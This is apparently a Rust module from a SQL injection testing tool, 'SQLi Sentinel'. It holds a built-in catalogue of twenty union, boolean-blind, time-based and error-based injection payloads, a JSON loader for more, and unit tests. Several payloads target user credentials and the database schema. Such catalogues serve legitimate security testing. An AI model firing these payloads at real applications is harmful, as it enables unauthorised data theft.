// Payload catalog for SQLi Sentinel
// Built-in payload table keyed by technique, extendable from JSON files on disk

use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::path::Path;
use walkdir::WalkDir;

pub const UNION_BASED: &str = "union-based";
pub const BOOLEAN_BASED: &str = "boolean-based";
pub const TIME_BASED: &str = "time-based";
pub const ERROR_BASED: &str = "error-based";

/// A single crafted input and what it is meant to provoke
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Payload {
    pub payload: String,
    pub description: String,
}

impl Payload {
    pub fn new(payload: &str, description: &str) -> Self {
        Self {
            payload: payload.to_string(),
            description: description.to_string(),
        }
    }
}

const BUILTIN: &[(&str, &[(&str, &str)])] = &[
    (
        UNION_BASED,
        &[
            ("' UNION SELECT 1,2,3--", "Basic union injection with comment termination"),
            ("' UNION SELECT NULL,NULL,NULL--", "Union injection with NULL values"),
            ("' UNION SELECT user(),version(),database()--", "Union injection to extract database information"),
            ("' UNION SELECT username,password,email FROM users--", "Union injection targeting user credentials"),
            ("1' UNION SELECT 1,table_name,column_name FROM information_schema.columns--", "Schema enumeration via union injection"),
        ],
    ),
    (
        BOOLEAN_BASED,
        &[
            ("' AND 1=1--", "True condition boolean injection"),
            ("' AND 1=2--", "False condition boolean injection"),
            ("' AND (SELECT COUNT(*) FROM users)>0--", "Boolean injection testing table existence"),
            ("' AND (SELECT substring(username,1,1) FROM users LIMIT 1)='a'--", "Character-by-character data extraction"),
            ("' AND ASCII(substring((SELECT password FROM users LIMIT 1),1,1))>64--", "ASCII-based boolean blind injection"),
        ],
    ),
    (
        TIME_BASED,
        &[
            ("'; WAITFOR DELAY '00:00:05'--", "SQL Server time delay injection"),
            ("' AND (SELECT SLEEP(5))--", "MySQL time delay injection"),
            ("'; SELECT pg_sleep(5)--", "PostgreSQL time delay injection"),
            ("' AND (SELECT COUNT(*) FROM users WHERE SLEEP(2))--", "Conditional time-based injection"),
            ("1' AND IF(1=1,SLEEP(5),0)--", "Conditional MySQL time delay"),
        ],
    ),
    (
        ERROR_BASED,
        &[
            ("' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))--", "MySQL extractvalue error injection"),
            ("' AND (SELECT * FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--", "MySQL floor error injection"),
            ("' AND CAST((SELECT user()) AS int)--", "CAST conversion error injection"),
            ("' OR 1=CONVERT(int,(SELECT @@version))--", "SQL Server CONVERT error injection"),
            ("' AND 1=1/0--", "Division by zero error injection"),
        ],
    ),
];

/// Read-only table of payloads keyed by technique name
#[derive(Debug, Clone, Default)]
pub struct PayloadCatalog {
    entries: BTreeMap<String, Vec<Payload>>,
}

impl PayloadCatalog {
    pub fn empty() -> Self {
        Self::default()
    }

    /// The four standard techniques with five payloads each.
    pub fn builtin() -> Self {
        let entries = BUILTIN
            .iter()
            .map(|(technique, payloads)| {
                let list = payloads
                    .iter()
                    .map(|(payload, description)| Payload::new(payload, description))
                    .collect();
                (technique.to_string(), list)
            })
            .collect();
        Self { entries }
    }

    /// Payloads for a technique in catalog order; unknown techniques have none.
    pub fn get(&self, technique: &str) -> &[Payload] {
        self.entries
            .get(technique)
            .map(|v| v.as_slice())
            .unwrap_or(&[])
    }

    pub fn contains(&self, technique: &str) -> bool {
        self.entries.contains_key(technique)
    }

    pub fn techniques(&self) -> impl Iterator<Item = &str> {
        self.entries.keys().map(|k| k.as_str())
    }

    pub fn len(&self) -> usize {
        self.entries.values().map(|v| v.len()).sum()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Append payloads to a technique, skipping ones it already holds.
    pub fn extend(&mut self, technique: &str, payloads: Vec<Payload>) {
        let list = self.entries.entry(technique.to_string()).or_default();
        for payload in payloads {
            if !list.iter().any(|p| p.payload == payload.payload) {
                list.push(payload);
            }
        }
    }

    /// Merge every `*.json` file under `dir`. Each file maps technique names
    /// to lists of `{ "payload": ..., "description": ... }`.
    pub fn load_dir(&mut self, dir: &Path) -> Result<usize, String> {
        if !dir.is_dir() {
            return Err(format!("payload directory {:?} does not exist", dir));
        }

        let mut files: Vec<_> = WalkDir::new(dir)
            .into_iter()
            .filter_map(|e| e.ok())
            .filter(|e| e.path().extension().map_or(false, |ext| ext == "json"))
            .map(|e| e.into_path())
            .collect();
        files.sort();

        let mut added = 0;
        for path in files {
            let content = std::fs::read_to_string(&path)
                .map_err(|e| format!("Failed to read {:?}: {}", path, e))?;
            let table: BTreeMap<String, Vec<Payload>> = serde_json::from_str(&content)
                .map_err(|e| format!("Failed to parse {:?}: {}", path, e))?;
            for (technique, payloads) in table {
                let before = self.get(&technique).len();
                self.extend(&technique, payloads);
                added += self.get(&technique).len() - before;
            }
        }
        Ok(added)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtin_has_four_techniques() {
        let catalog = PayloadCatalog::builtin();
        let techniques: Vec<&str> = catalog.techniques().collect();
        assert_eq!(techniques, vec![BOOLEAN_BASED, ERROR_BASED, TIME_BASED, UNION_BASED]);
        for technique in &techniques {
            assert_eq!(catalog.get(technique).len(), 5);
        }
        assert_eq!(catalog.len(), 20);
    }

    #[test]
    fn catalog_order_is_preserved() {
        let catalog = PayloadCatalog::builtin();
        assert_eq!(catalog.get(UNION_BASED)[0].payload, "' UNION SELECT 1,2,3--");
        assert_eq!(catalog.get(ERROR_BASED)[4].payload, "' AND 1=1/0--");
    }

    #[test]
    fn unknown_technique_is_empty() {
        let catalog = PayloadCatalog::builtin();
        assert!(catalog.get("stacked-queries").is_empty());
        assert!(!catalog.contains("stacked-queries"));
    }

    #[test]
    fn extend_skips_duplicates() {
        let mut catalog = PayloadCatalog::builtin();
        catalog.extend(
            ERROR_BASED,
            vec![
                Payload::new("' AND 1=1/0--", "dup"),
                Payload::new("'\"", "Unbalanced quotes"),
            ],
        );
        assert_eq!(catalog.get(ERROR_BASED).len(), 6);
        assert_eq!(catalog.get(ERROR_BASED)[5].description, "Unbalanced quotes");
    }
}
